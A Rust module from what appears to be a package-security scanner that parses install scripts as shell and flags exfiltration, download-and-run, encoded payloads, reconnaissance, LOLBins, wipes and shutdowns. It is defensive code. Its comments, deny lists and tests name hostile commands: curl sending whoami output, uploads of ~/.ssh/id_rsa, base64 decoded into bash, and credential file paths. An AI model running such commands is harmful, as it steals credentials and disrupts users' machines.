//! Lifecycle scripts and shipped shell files, parsed rather than grepped.
//!
//! A script is split the way a POSIX shell (and, roughly, `cmd.exe`) splits it:
//! words with their quotes resolved, commands separated by `&&`, `||`, `;`, `&`
//! and newlines, pipelines joined by `|`, and command substitutions (`$(…)`,
//! backticks) parsed as commands of their own. Wrappers are unwrapped (`sh -c`,
//! `bash -c`, `cmd /c`, `start /B`, `nohup`, `env X=y`), and `node -e` hands its code
//! to the JavaScript analysis. Then each command is read for what it does: fetch
//! from the network, print who the machine is, decode, run what it fetched or what
//! the package ships.

use crate::js::literals::{self, HostClass};

/// What a script does, command by command.
#[derive(Debug, Default)]
pub(crate) struct Script {
    pub(crate) commands: Vec<Command>,
    /// `node -e` code.
    pub(crate) inline_js: Vec<String>,
}

/// One simple command.
#[derive(Clone, Debug, Default)]
pub(crate) struct Command {
    /// The program, unwrapped and without its directory (`curl`, `node`).
    pub(crate) program: String,
    pub(crate) arguments: Vec<String>,
    /// The command's text, for evidence.
    pub(crate) text: String,
    /// Index of the pipeline it belongs to, and its position in it.
    pub(crate) pipeline: usize,
    pub(crate) position: usize,
    /// Substituted into another command's arguments (`$(hostname)`).
    pub(crate) substituted: bool,
    /// Arguments carry a command substitution or a variable (`$USER`).
    pub(crate) expands: Vec<String>,
    /// Started by a launcher (`Start-Process x`, `Invoke-Item x`): the program is a
    /// file run, whatever its name.
    pub(crate) launched: bool,
}

/// What a script can do, as the rules weigh it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Behaviour {
    /// A network tool sends host data (`curl -d "$(whoami)"`, ``nslookup `hostname`.x``).
    Exfiltrates {
        tool: String,
        what: String,
        dns: bool,
    },
    /// Something fetched is run: piped into a shell, or saved, made executable and run.
    DownloadsAndRuns { tool: String },
    /// A network tool reaches a host written in the script.
    Contacts {
        tool: String,
        host: String,
        class: HostClass,
    },
    /// A network tool with no host the analysis can read.
    UsesNetworkTool { tool: String },
    /// Encoded commands run: `base64 -d | sh`, `powershell -enc`.
    RunsEncoded { how: String },
    /// Prints who or where the machine is.
    Recon { command: String },
    /// Runs a file of the package (or a path) directly: `./x`, `node x.js`, `x.exe`.
    RunsFile {
        path: String,
        interpreter: Option<String>,
    },
    /// Windows binaries that run other code (LOLBins).
    LivingOffTheLand { tool: String },
    /// Deletes the home directory, the filesystem root, or the project the
    /// package is installed in.
    Wipes { target: String },
    /// Shuts the machine down or restarts it.
    PowersOff { command: String },
    /// Publishes packages.
    Publishes,
    /// Installs packages into the machine's global prefix (`npm install -g x`):
    /// what a dependency's install has no business changing.
    InstallsGlobally { packages: String },
    /// Detaches and hides what it starts.
    Hides { how: String },
}

const NETWORK_TOOLS: &[&str] = &[
    "/dev/tcp",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "nslookup",
    "dig",
    "host",
    "ping",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "certutil",
    "bitsadmin",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "socat",
    "aria2c",
];
const DNS_TOOLS: &[&str] = &["nslookup", "dig", "host", "ping"];
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "powershell",
    "pwsh",
    "iex",
    "invoke-expression",
    "cmd",
    "python",
    "python3",
    "perl",
    "node",
];
const RECON: &[&str] = &[
    "hostname",
    "whoami",
    "id",
    "uname",
    "pwd",
    "ifconfig",
    "ipconfig",
    "env",
    "printenv",
    "systeminfo",
    "groups",
    "users",
    "w",
];
const LOLBINS: &[&str] = &[
    "rundll32",
    "regsvr32",
    "mshta",
    "msiexec",
    "cmstp",
    "installutil",
    "mavinject",
    "wscript",
    "cscript",
    "schtasks",
    "reg",
];
/// Variables that hold who or where the machine is.
const IDENTITY_VARIABLES: &[&str] = &[
    "USER",
    "USERNAME",
    "LOGNAME",
    "HOME",
    "HOSTNAME",
    "COMPUTERNAME",
    "USERPROFILE",
    "USERDOMAIN",
    "PWD",
];

/// Splits and reads a script.
pub(crate) fn parse(script: &str) -> Script {
    let mut parsed = Script::default();
    let mut pipelines = 0usize;
    parse_into(script, &mut parsed, &mut pipelines, false, 0);
    parsed
}

#[derive(Debug, PartialEq)]
enum Token {
    Word(String, Vec<String>),
    Pipe,
    Separator,
    /// `(` and `)` around a subshell or a group: one stage of its pipeline.
    Open,
    Close,
}

fn parse_into(
    script: &str,
    parsed: &mut Script,
    pipelines: &mut usize,
    substituted: bool,
    depth: u32,
) {
    if depth > 8 {
        return;
    }
    let mut substitutions = Vec::new();
    let tokens = tokenize(script, &mut substitutions);
    let mut position = 0usize;
    let mut words: Vec<(String, Vec<String>)> = Vec::new();
    let flush = |words: &mut Vec<(String, Vec<String>)>,
                 position: usize,
                 pipelines: &mut usize,
                 parsed: &mut Script| {
        if words.is_empty() {
            return;
        }
        let taken = std::mem::take(words);
        command_from(
            taken,
            parsed,
            *pipelines,
            position,
            substituted,
            depth,
            pipelines,
        );
    };
    // Inside `( … )` the commands are one stage of the pipeline around them:
    // `echo … | (base64 -d || base64 -D) | bash` pipes either decoder into bash.
    let mut grouped = 0u32;
    for token in tokens {
        match token {
            Token::Word(word, expands) => words.push((word, expands)),
            Token::Pipe => {
                flush(&mut words, position, pipelines, parsed);
                position += 1;
            }
            Token::Separator if grouped > 0 => flush(&mut words, position, pipelines, parsed),
            Token::Separator => {
                flush(&mut words, position, pipelines, parsed);
                *pipelines += 1;
                position = 0;
            }
            Token::Open => {
                flush(&mut words, position, pipelines, parsed);
                grouped += 1;
            }
            Token::Close => {
                flush(&mut words, position, pipelines, parsed);
                grouped = grouped.saturating_sub(1);
            }
        }
    }
    flush(&mut words, position, pipelines, parsed);
    *pipelines += 1;
    for substitution in substitutions {
        parse_into(&substitution, parsed, pipelines, true, depth + 1);
    }
}

/// Words and operators. Quotes are resolved; `$(…)` and backticks are cut out,
/// kept whole in the word (so that the word shows what it expands), and returned
/// in `substitutions` to be parsed as commands of their own.
fn tokenize(script: &str, substitutions: &mut Vec<String>) -> Vec<Token> {
    let chars: Vec<char> = script.chars().collect();
    let mut tokens = Vec::new();
    let mut word = String::new();
    let mut expands: Vec<String> = Vec::new();
    let mut in_word = false;
    let mut index = 0;
    let end_word = |tokens: &mut Vec<Token>,
                    word: &mut String,
                    expands: &mut Vec<String>,
                    in_word: &mut bool| {
        if *in_word {
            tokens.push(Token::Word(std::mem::take(word), std::mem::take(expands)));
            *in_word = false;
        }
    };
    while index < chars.len() {
        let c = chars[index];
        match c {
            '\'' => {
                in_word = true;
                index += 1;
                while index < chars.len() && chars[index] != '\'' {
                    word.push(chars[index]);
                    index += 1;
                }
            }
            '"' => {
                in_word = true;
                index += 1;
                while index < chars.len() && chars[index] != '"' {
                    if chars[index] == '\\' && index + 1 < chars.len() {
                        index += 1;
                        word.push(chars[index]);
                    } else if chars[index] == '$' || chars[index] == '`' {
                        index = expansion(&chars, index, &mut word, &mut expands, substitutions);
                        continue;
                    } else {
                        word.push(chars[index]);
                    }
                    index += 1;
                }
            }
            '\\' => {
                in_word = true;
                if index + 1 < chars.len() && chars[index + 1] != '\n' {
                    word.push(chars[index + 1]);
                }
                index += 1;
            }
            '$' | '`' => {
                in_word = true;
                index = expansion(&chars, index, &mut word, &mut expands, substitutions);
                continue;
            }
            ' ' | '\t' | '\r' => end_word(&mut tokens, &mut word, &mut expands, &mut in_word),
            '\n' | ';' => {
                end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
                tokens.push(Token::Separator);
            }
            '&' => {
                end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
                // `2>&1`, `>& file` are redirections, not separators: the `&`
                // continues the operator's word.
                if let Some(Token::Word(text, _)) = tokens.last()
                    && text.ends_with('>')
                {
                    if let Some(Token::Word(text, carried)) = tokens.pop() {
                        word = text;
                        expands = carried;
                    }
                    word.push('&');
                    in_word = true;
                } else {
                    if chars.get(index + 1) == Some(&'&') {
                        index += 1;
                    }
                    tokens.push(Token::Separator);
                }
            }
            '|' => {
                end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
                if chars.get(index + 1) == Some(&'|') {
                    index += 1;
                    tokens.push(Token::Separator);
                } else {
                    tokens.push(Token::Pipe);
                }
            }
            '(' if !in_word => tokens.push(Token::Open),
            ')' => {
                end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
                tokens.push(Token::Close);
            }
            c => {
                in_word = true;
                word.push(c);
            }
        }
        index += 1;
    }
    end_word(&mut tokens, &mut word, &mut expands, &mut in_word);
    tokens
}

/// Reads `$(…)`, `` `…` ``, `${VAR}` or `$VAR` at `index`; returns the index after it.
fn expansion(
    chars: &[char],
    index: usize,
    word: &mut String,
    expands: &mut Vec<String>,
    substitutions: &mut Vec<String>,
) -> usize {
    let c = chars[index];
    if c == '`' {
        let mut end = index + 1;
        while end < chars.len() && chars[end] != '`' {
            end += 1;
        }
        let inner: String = chars[index + 1..end.min(chars.len())].iter().collect();
        word.push('`');
        word.push_str(&inner);
        word.push('`');
        expands.push(inner.clone());
        substitutions.push(inner);
        return (end + 1).min(chars.len());
    }
    match chars.get(index + 1) {
        Some('(') => {
            let mut depth = 0usize;
            let mut end = index + 1;
            while end < chars.len() {
                match chars[end] {
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                end += 1;
            }
            let inner: String = chars[index + 2..end.min(chars.len())].iter().collect();
            word.push_str("$(");
            word.push_str(&inner);
            word.push(')');
            expands.push(inner.clone());
            substitutions.push(inner);
            (end + 1).min(chars.len())
        }
        Some('{') => {
            let mut end = index + 2;
            while end < chars.len() && chars[end] != '}' {
                end += 1;
            }
            let name: String = chars[index + 2..end.min(chars.len())].iter().collect();
            word.push_str("${");
            word.push_str(&name);
            word.push('}');
            expands.push(format!("${name}"));
            (end + 1).min(chars.len())
        }
        Some(next) if next.is_ascii_alphabetic() || *next == '_' => {
            let mut end = index + 1;
            while end < chars.len() && (chars[end].is_ascii_alphanumeric() || chars[end] == '_') {
                end += 1;
            }
            let name: String = chars[index + 1..end].iter().collect();
            word.push('$');
            word.push_str(&name);
            expands.push(format!("${name}"));
            end
        }
        _ => {
            word.push('$');
            index + 1
        }
    }
}

/// `%VAR%` in a cmd.exe word.
fn windows_variables(word: &str) -> Vec<String> {
    let parts: Vec<&str> = word.split('%').collect();
    parts
        .iter()
        .enumerate()
        .filter(|(index, part)| {
            index % 2 == 1
                && !part.is_empty()
                && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
        .map(|(_, part)| format!("${part}"))
        .collect()
}

fn program_name(word: &str) -> String {
    let name = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    name.strip_suffix(".exe")
        .map_or(name.clone(), str::to_owned)
}

fn command_from(
    mut words: Vec<(String, Vec<String>)>,
    parsed: &mut Script,
    pipeline: usize,
    position: usize,
    substituted: bool,
    depth: u32,
    pipelines: &mut usize,
) {
    // Redirections are not arguments, nor what they redirect to.
    let mut kept = Vec::with_capacity(words.len());
    let mut skip_next = false;
    // Bash's `/dev/tcp/host/port`: a redirection that is a network connection.
    let mut sockets: Vec<String> = Vec::new();
    for (word, expands) in words {
        if skip_next {
            skip_next = false;
            if word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/") {
                sockets.push(word);
            }
            continue;
        }
        let operator = word.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
        if operator.starts_with('>') || operator.starts_with('<') {
            // `> nul` names its target next; `>nul`, `2>&1` carry it.
            skip_next = matches!(operator, ">" | ">>" | "<" | ">&" | ">|");
            let target = operator.trim_start_matches(['>', '<', '&', '|']);
            if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
                sockets.push(target.to_owned());
            }
            continue;
        }

        kept.push((word, expands));
    }
    words = kept;
    for socket in sockets {
        parsed.commands.push(Command {
            program: "/dev/tcp".to_owned(),
            arguments: vec![socket.clone()],
            text: socket,
            pipeline,
            position,
            substituted,
            expands: Vec::new(),
            launched: false,
        });
    }
    // Unwrap what only starts another command.
    let mut launched = false;
    loop {
        let Some((first, _)) = words.first() else {
            return;
        };
        let program = program_name(first);
        let assignment = first.contains('=')
            && !first.starts_with('-')
            && first
                .split('=')
                .next()
                .is_some_and(|name| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
        if assignment
            || matches!(
                program.as_str(),
                "sudo" | "exec" | "nohup" | "env" | "nice" | "time" | "command" | "call"
            )
        {
            if program == "nohup" {
                parsed.commands.push(hides("nohup", pipeline, position));
            }
            words.remove(0);
            continue;
        }
        // PowerShell's launchers: what they start is a file run.
        if matches!(
            program.as_str(),
            "start-process" | "saps" | "invoke-item" | "ii"
        ) {
            words.remove(0);
            launched = true;
            while let Some((flag, _)) = words.first()
                && flag.starts_with('-')
            {
                let flag = words.remove(0).0.to_ascii_lowercase();
                if flag == "-windowstyle" && !words.is_empty() {
                    let (style, _) = words.remove(0);
                    if style.eq_ignore_ascii_case("hidden") {
                        parsed.commands.push(hides(
                            "Start-Process -WindowStyle Hidden",
                            pipeline,
                            position,
                        ));
                    }
                } else if !matches!(
                    flag.as_str(),
                    "-filepath" | "-path" | "-nonewwindow" | "-wait" | "-passthru"
                ) && !words.is_empty()
                {
                    words.remove(0);
                }
            }
            continue;
        }
        if program == "start" {
            words.remove(0);
            while words
                .first()
                .is_some_and(|(word, _)| word.starts_with('/') || word.is_empty())
            {
                let (flag, _) = words.remove(0);
                if flag.eq_ignore_ascii_case("/b") || flag.eq_ignore_ascii_case("/min") {
                    parsed.commands.push(hides("start /B", pipeline, position));
                }
            }
            continue;
        }
        // `sh -c "…"`, `bash -c`, `cmd /c`, `powershell -Command`: the string is a
        // script of its own.
        let inner_flag = match program.as_str() {
            "sh" | "bash" | "zsh" | "dash" => Some("-c"),
            "cmd" => Some("/c"),
            "powershell" | "pwsh" => Some("-command"),
            _ => None,
        };
        if let Some(flag) = inner_flag
            && let Some(at) = words.iter().position(|(word, _)| {
                word.eq_ignore_ascii_case(flag)
                    || (flag == "-command" && word.eq_ignore_ascii_case("-c"))
            })
            && at + 1 < words.len()
        {
            let inner: Vec<String> = words[at + 1..]
                .iter()
                .map(|(word, _)| word.clone())
                .collect();
            parse_into(&inner.join(" "), parsed, pipelines, substituted, depth + 1);
            return;
        }
        break;
    }
    let Some((first, _)) = words.first() else {
        return;
    };
    let program = program_name(first);
    if (program == "node" || program == "nodejs")
        && let Some(at) = words
            .iter()
            .position(|(word, _)| matches!(word.as_str(), "-e" | "--eval" | "-p" | "--print"))
        && let Some((code, _)) = words.get(at + 1)
    {
        parsed.inline_js.push(code.clone());
    }
    let mut expands: Vec<String> = Vec::new();
    for (word, word_expands) in &words {
        expands.extend(word_expands.iter().cloned());
        expands.extend(windows_variables(word));
    }
    let text = words
        .iter()
        .map(|(word, _)| word.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    parsed.commands.push(Command {
        program,
        arguments: words.into_iter().skip(1).map(|(word, _)| word).collect(),
        text,
        pipeline,
        position,
        substituted,
        expands,
        launched,
    });
}

fn hides(how: &str, pipeline: usize, position: usize) -> Command {
    Command {
        program: format!("#hides {how}"),
        pipeline,
        position,
        ..Command::default()
    }
}

/// Whether a command line (or one argument) names the machine's accounts or a
/// credential file: `/etc/passwd`, `/etc/shadow`, `.npmrc`, `.ssh/`.
pub(crate) fn reads_accounts(text: &str) -> bool {
    ["/etc/passwd", "/etc/shadow", ".npmrc", ".ssh"]
        .iter()
        .any(|file| text.contains(file))
}

impl Command {
    fn is_network_tool(&self) -> bool {
        NETWORK_TOOLS.contains(&self.program.as_str())
            || (self.is_powershell() && {
                let lower = self.text.to_ascii_lowercase();
                lower.contains("downloadstring")
                    || lower.contains("downloadfile")
                    || lower.contains("invoke-webrequest")
                    || lower.contains("net.webclient")
            })
    }

    fn is_powershell(&self) -> bool {
        matches!(self.program.as_str(), "powershell" | "pwsh")
    }

    fn is_recon(&self) -> bool {
        RECON.contains(&self.program.as_str())
            || (self.program == "cat"
                && self
                    .arguments
                    .iter()
                    .any(|argument| argument.contains("/etc/hosts") || reads_accounts(argument)))
            || (self.program == "net"
                && self
                    .arguments
                    .first()
                    .is_some_and(|argument| argument.eq_ignore_ascii_case("user")))
    }

    /// The hosts written in the arguments.
    fn hosts(&self) -> Vec<(String, HostClass)> {
        self.arguments
            .iter()
            .flat_map(|argument| literals::hosts_in(argument))
            .collect()
    }

    /// What data the arguments carry: substituted recon commands, identity
    /// variables, uploaded files.
    fn carried_data(&self, recon_substitutions: &[String]) -> Option<String> {
        for expansion in &self.expands {
            if let Some(variable) = expansion.strip_prefix('$') {
                let name = variable.trim_matches(['{', '}']).to_ascii_uppercase();
                if IDENTITY_VARIABLES.contains(&name.as_str()) {
                    return Some(format!("${name}"));
                }
                if name.contains("TOKEN")
                    || name.contains("SECRET")
                    || name.contains("PASSWORD")
                    || name.ends_with("_KEY")
                {
                    return Some(format!("${name}"));
                }
            } else if recon_substitutions
                .iter()
                .any(|command| command.trim() == expansion.trim())
            {
                return Some(format!("$({})", expansion.trim()));
            }
        }
        // `curl -d @/etc/passwd`, `curl -F f=@~/.ssh/id_rsa`, `--upload-file`.
        let mut previous = "";
        for argument in &self.arguments {
            let uploads = argument.contains("=@")
                || (argument.starts_with('@') && previous.starts_with('-'))
                || matches!(
                    previous,
                    "--upload-file" | "-T" | "--data-binary" | "--post-file"
                );
            if uploads && argument.len() > 1 {
                let path = argument.rsplit('@').next().unwrap_or(argument);
                if path != "-" {
                    return Some(format!("the file {path}"));
                }
            }
            previous = argument;
        }
        None
    }
}

/// The packages a command installs globally: `npm install -g x`, `npm i --global x`,
/// `pnpm add -g x`, `bun add -g x`, `yarn global add x`.
fn global_install(command: &Command) -> Option<String> {
    let arguments = &command.arguments;
    let words: Vec<&str> = arguments
        .iter()
        .map(String::as_str)
        .filter(|argument| !argument.starts_with('-'))
        .collect();
    let global = match command.program.as_str() {
        "npm" | "pnpm" | "bun" => {
            matches!(
                words.first(),
                Some(&("install" | "i" | "add" | "isntall" | "in" | "ins"))
            ) && arguments
                .iter()
                .any(|argument| argument == "-g" || argument == "--global")
        }
        "yarn" => words.first() == Some(&"global") && words.get(1) == Some(&"add"),
        _ => false,
    };
    let skip = if command.program == "yarn" { 2 } else { 1 };
    let packages: Vec<&str> = words.iter().skip(skip).copied().collect();
    (global && !packages.is_empty()).then(|| packages.join(" "))
}

/// `shutdown`, `reboot`, `halt`, `poweroff`, `systemctl poweroff`, `init 0`,
/// PowerShell's `Stop-Computer`: no package has a reason to turn the machine off.
fn powers_off(command: &Command) -> bool {
    let first = command.arguments.first().map(String::as_str);
    match command.program.to_ascii_lowercase().as_str() {
        "shutdown" | "shutdown.exe" | "reboot" | "halt" | "poweroff" | "stop-computer"
        | "restart-computer" => true,
        "systemctl" => matches!(first, Some("poweroff" | "reboot" | "halt" | "kexec")),
        "init" | "telinit" => matches!(first, Some("0" | "6")),
        _ => {
            command.is_powershell() && {
                let lower = command.text.to_ascii_lowercase();
                lower.contains("stop-computer") || lower.contains("restart-computer")
            }
        }
    }
}

/// What the script does, command by command and across its pipelines.
pub(crate) fn behaviours(script: &Script) -> Vec<(Behaviour, String)> {
    let mut found: Vec<(Behaviour, String)> = Vec::new();
    let commands = &script.commands;
    let recon_substitutions: Vec<String> = commands
        .iter()
        .filter(|command| command.substituted && command.is_recon())
        .map(|command| command.text.clone())
        .collect();
    let mut downloaded: Vec<String> = Vec::new();
    let mut executable: Vec<String> = Vec::new();
    for (index, command) in commands.iter().enumerate() {
        let program = command.program.as_str();
        if let Some(how) = program.strip_prefix("#hides ") {
            found.push((
                Behaviour::Hides {
                    how: how.to_owned(),
                },
                how.to_owned(),
            ));
            continue;
        }
        let pipeline: Vec<&Command> = commands
            .iter()
            .filter(|other| other.pipeline == command.pipeline && !other.substituted)
            .collect();
        let later_in_pipe = pipeline
            .iter()
            .filter(|other| other.position > command.position);
        let earlier_in_pipe = pipeline
            .iter()
            .filter(|other| other.position < command.position);
        // Writing to `/dev/tcp/host/port` sends what the command prints.
        if program == "/dev/tcp" {
            found.push((
                Behaviour::Exfiltrates {
                    tool: "bash's /dev/tcp".to_owned(),
                    what: "what the command prints".to_owned(),
                    dns: false,
                },
                command.text.clone(),
            ));
        }
        if command.is_network_tool() {
            let tool = program.to_owned();
            // Data out: substituted host data, identity variables, uploads, or piped in.
            let piped_recon = earlier_in_pipe.clone().any(|other| other.is_recon());
            let data = command.carried_data(&recon_substitutions).or_else(|| {
                piped_recon.then(|| "the output of a reconnaissance command".to_owned())
            });
            if let Some(what) = data {
                found.push((
                    Behaviour::Exfiltrates {
                        tool: tool.clone(),
                        what,
                        dns: DNS_TOOLS.contains(&program),
                    },
                    command.text.clone(),
                ));
            }
            // Fetched code run: piped into a shell.
            if later_in_pipe
                .clone()
                .any(|other| SHELLS.contains(&other.program.as_str()))
            {
                found.push((
                    Behaviour::DownloadsAndRuns { tool: tool.clone() },
                    command.text.clone(),
                ));
            }
            // Saved: `-o file`, `-O file`, `wget URL` (saved under its name).
            let mut previous = "";
            for argument in &command.arguments {
                if matches!(
                    previous,
                    "-o" | "-O" | "--output" | "--output-document" | "-OutFile" | "-outfile"
                ) {
                    downloaded.push(base_name(argument));
                }
                previous = argument;
            }
            if program == "wget" || program == "certutil" || program == "bitsadmin" {
                for argument in &command.arguments {
                    if argument.contains("://") {
                        downloaded.push(base_name(
                            argument.split(['?', '#']).next().unwrap_or(argument),
                        ));
                    } else if !argument.starts_with('-') && !argument.starts_with('/') {
                        downloaded.push(base_name(argument));
                    }
                }
            }
            let hosts = command.hosts();
            if hosts.is_empty() {
                found.push((Behaviour::UsesNetworkTool { tool }, command.text.clone()));
            } else {
                for (host, class) in hosts {
                    found.push((
                        Behaviour::Contacts {
                            tool: tool.clone(),
                            host,
                            class,
                        },
                        command.text.clone(),
                    ));
                }
            }
        }
        if command.is_recon() && !command.substituted {
            found.push((
                Behaviour::Recon {
                    command: command.text.clone(),
                },
                command.text.clone(),
            ));
        }
        if command.is_powershell() {
            let lower = command.text.to_ascii_lowercase();
            if command.arguments.iter().any(|argument| {
                let flag = argument.to_ascii_lowercase();
                flag.len() >= 2 && "-encodedcommand".starts_with(&flag) && flag.starts_with("-e")
            }) || lower.contains("frombase64string")
            {
                found.push((
                    Behaviour::RunsEncoded {
                        how: "an encoded PowerShell command".to_owned(),
                    },
                    command.text.clone(),
                ));
            }
            if lower.contains("hidden") {
                found.push((
                    Behaviour::Hides {
                        how: "a hidden PowerShell window".to_owned(),
                    },
                    command.text.clone(),
                ));
            }
        }
        if program == "base64"
            && command
                .arguments
                .iter()
                .any(|argument| matches!(argument.as_str(), "-d" | "--decode" | "-D"))
            && later_in_pipe
                .clone()
                .any(|other| SHELLS.contains(&other.program.as_str()))
        {
            found.push((
                Behaviour::RunsEncoded {
                    how: "base64 decoded into a shell".to_owned(),
                },
                command.text.clone(),
            ));
        }
        // `reg query` and `schtasks /query` read; adding a run key or a task is
        // what persists.
        let reads_only = matches!(program, "reg" | "schtasks")
            && !command.arguments.iter().any(|argument| {
                matches!(
                    argument.to_ascii_lowercase().as_str(),
                    "add" | "import" | "/create" | "-create"
                )
            });
        if LOLBINS.contains(&program) && !reads_only {
            found.push((
                Behaviour::LivingOffTheLand {
                    tool: program.to_owned(),
                },
                command.text.clone(),
            ));
            // `rundll32 <downloaded file>`: what was fetched is run.
            if command
                .arguments
                .iter()
                .any(|argument| downloaded.contains(&base_name(argument)))
            {
                found.push((
                    Behaviour::DownloadsAndRuns {
                        tool: program.to_owned(),
                    },
                    command.text.clone(),
                ));
            }
        }
        // A download renamed or copied is still the download.
        if matches!(program, "mv" | "rename" | "ren" | "move" | "copy" | "cp")
            && let [from, .., to] = command
                .arguments
                .iter()
                .filter(|argument| !argument.starts_with('-') && !argument.starts_with('/'))
                .collect::<Vec<_>>()
                .as_slice()
            && downloaded.contains(&base_name(from))
        {
            downloaded.push(base_name(to));
        }
        if program == "chmod" {
            for argument in command.arguments.iter().filter(|argument| {
                !argument.starts_with('-')
                    && !argument.starts_with('+')
                    && !argument.chars().all(|c| c.is_ascii_digit())
            }) {
                executable.push(base_name(argument));
            }
        }
        if program == "rm"
            && command
                .arguments
                .iter()
                .any(|argument| argument.starts_with('-') && argument.contains('r'))
            && let Some(target) = command.arguments.iter().find(|argument| {
                matches!(
                    argument.as_str(),
                    "/" | "/*" | "~" | "~/" | "~/*" | "$HOME" | "${HOME}" | "$HOME/" | "$HOME/*"
                ) || leaves_the_project(argument)
            })
        {
            found.push((
                Behaviour::Wipes {
                    target: target.clone(),
                },
                command.text.clone(),
            ));
        }
        if powers_off(command) {
            found.push((
                Behaviour::PowersOff {
                    command: command.text.clone(),
                },
                command.text.clone(),
            ));
        }
        if program == "npm"
            && command
                .arguments
                .first()
                .is_some_and(|argument| argument == "publish")
        {
            found.push((Behaviour::Publishes, command.text.clone()));
        }
        if let Some(packages) = global_install(command) {
            found.push((
                Behaviour::InstallsGlobally { packages },
                command.text.clone(),
            ));
        }
        // Running a file: `./x`, `x.exe`, `node x.js`, `sh x.sh`.
        let first = command.text.split(' ').next().unwrap_or("");
        let runs_path = first.starts_with("./")
            || first.starts_with("../")
            || first.starts_with('/')
            || first.contains('\\')
            || program.ends_with(".bat")
            || program.ends_with(".cmd")
            || program.ends_with(".ps1")
            || first.to_ascii_lowercase().ends_with(".exe")
            || command.launched;
        if runs_path && !command.substituted {
            found.push((
                Behaviour::RunsFile {
                    path: first.to_owned(),
                    interpreter: None,
                },
                command.text.clone(),
            ));
            if downloaded.contains(&base_name(first))
                || executable.contains(&base_name(first)) && downloaded.contains(&base_name(first))
            {
                found.push((
                    Behaviour::DownloadsAndRuns {
                        tool: "a saved download".to_owned(),
                    },
                    command.text.clone(),
                ));
            }
        } else if matches!(
            program,
            "node"
                | "sh"
                | "bash"
                | "python"
                | "python3"
                | "perl"
                | "powershell"
                | "pwsh"
                | "cscript"
                | "wscript"
        ) && let Some(file) = command
            .arguments
            .iter()
            .find(|argument| !argument.starts_with('-'))
            && !command.arguments.iter().any(|argument| {
                matches!(argument.as_str(), "-e" | "--eval" | "-p" | "--print" | "-c")
            })
        {
            found.push((
                Behaviour::RunsFile {
                    path: file.clone(),
                    interpreter: Some(program.to_owned()),
                },
                command.text.clone(),
            ));
            if downloaded.contains(&base_name(file)) {
                found.push((
                    Behaviour::DownloadsAndRuns {
                        tool: "a saved download".to_owned(),
                    },
                    command.text.clone(),
                ));
            }
        }
        let _ = index;
    }
    found
}

fn base_name(path: &str) -> String {
    path.trim_matches(['"', '\''])
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(path)
        .to_owned()
}

/// A path that ends two or more levels above where it starts (`$DIR/../..`,
/// `../../*`): from a package in `node_modules/<name>`, the project itself or
/// what holds it. Cleaning a cache under it names the cache.
fn leaves_the_project(path: &str) -> bool {
    let path = path.trim_end_matches(['/', '*']);
    let segments: Vec<&str> = path
        .split(['/', '\\'])
        .filter(|part| !part.is_empty())
        .collect();
    segments.iter().filter(|part| **part == "..").count() >= 2 && segments.last() == Some(&"..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(script: &str) -> Vec<String> {
        behaviours(&parse(script))
            .into_iter()
            .map(|(behaviour, _)| match behaviour {
                Behaviour::Exfiltrates { dns: true, .. } => "exfiltrates-dns".to_owned(),
                Behaviour::Exfiltrates { .. } => "exfiltrates".to_owned(),
                Behaviour::DownloadsAndRuns { .. } => "downloads-and-runs".to_owned(),
                Behaviour::Contacts { class, .. } => {
                    format!("contacts-{class:?}").to_ascii_lowercase()
                }
                Behaviour::UsesNetworkTool { .. } => "network-tool".to_owned(),
                Behaviour::RunsEncoded { .. } => "runs-encoded".to_owned(),
                Behaviour::Recon { .. } => "recon".to_owned(),
                Behaviour::RunsFile { .. } => "runs-file".to_owned(),
                Behaviour::LivingOffTheLand { .. } => "lolbin".to_owned(),
                Behaviour::Wipes { .. } => "wipes".to_owned(),
                Behaviour::PowersOff { .. } => "powers-off".to_owned(),
                Behaviour::Publishes => "publishes".to_owned(),
                Behaviour::InstallsGlobally { .. } => "installs-globally".to_owned(),
                Behaviour::Hides { .. } => "hides".to_owned(),
            })
            .collect()
    }

    #[test]
    fn global_installs_are_recognised_and_local_ones_are_not() {
        for command in [
            "npm install -g openclaw@latest",
            "npm i --global some-agent",
            "pnpm add -g tool",
            "bun add --global tool",
            "yarn global add tool",
            "cd .. && npm install -g x",
        ] {
            assert!(
                kinds(command).contains(&"installs-globally".to_owned()),
                "{command}"
            );
        }
        for command in [
            "npm install",
            "npm install --no-save left-pad",
            "npm ls -g",
            "npm install -g",
            "yarn global list",
            "echo npm install -g x",
        ] {
            assert!(
                !kinds(command).contains(&"installs-globally".to_owned()),
                "{command}"
            );
        }
    }

    #[test]
    fn turning_the_machine_off_is_recognised_and_naming_it_is_not() {
        for command in [
            "say hello; shutdown -s now",
            "sudo shutdown -h now",
            "systemctl poweroff",
            "init 0",
            "powershell -c Stop-Computer -Force",
        ] {
            assert!(
                kinds(command).contains(&"powers-off".to_owned()),
                "{command}"
            );
        }
        for command in [
            "echo shutdown",
            "node scripts/shutdown.js",
            "systemctl status x",
        ] {
            assert!(
                !kinds(command).contains(&"powers-off".to_owned()),
                "{command}"
            );
        }
    }

    /// A group in parentheses is one stage of its pipeline: either decoder in
    /// `( … || … )` feeds the shell after it.
    #[test]
    fn a_group_of_decoders_piped_into_a_shell_runs_encoded_text() {
        for script in [
            "echo 'ZWNobyBoaQ==' | (base64 --decode 2>/dev/null || base64 -D) | bash",
            "echo 'ZWNobyBoaQ==' | ( base64 -d ) | sh",
